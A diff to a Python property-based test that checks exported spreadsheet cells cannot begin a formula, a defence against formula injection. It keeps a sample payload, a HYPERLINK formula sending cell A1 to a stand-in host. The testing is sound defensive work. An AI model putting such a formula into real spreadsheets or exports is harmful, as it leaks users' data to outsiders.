@@ -14,6 +14,8 @@ from core.one_line import one_line
 from core.tables import print_rows
 
 BEGINNINGS = "=+-@\t\r\n\0＝＋－＠"
+# Without any of these nothing is computed from a number.
+COMPUTES = set('=+-@(!|*/&^;:"')
 CELLS = st.text(st.sampled_from("=+-@'\"10,. ABé\t|!") | st.characters(codec="utf-8"))
 ATTACK = '=HYPERLINK("https://elsewhere.example/?"&A1)'
 
@@ -25,14 +27,10 @@ ATTACK = '=HYPERLINK("https://elsewhere.example/?"&A1)'
 def test_no_cell_begins_a_formula_and_each_is_read_as_it_was(cell: str) -> None:
     written = inert(cell)
     if written and written[0] in BEGINNINGS:
-        int(_machine(written))
+        assert written[0] in "+-"
+        assert not set(written[1:]) & COMPUTES
     if cell == bare_text(cell):
         assert bare_text(written) == cell
-
-
-def _machine(number: str) -> str:
-    """A number as Python reads it: nothing else may begin as a formula does."""
-    return "".join(number.rstrip("%").replace("'", "").replace("’", "").split()).replace(",", "").replace(".", "")
 
 
 @given(st.text())
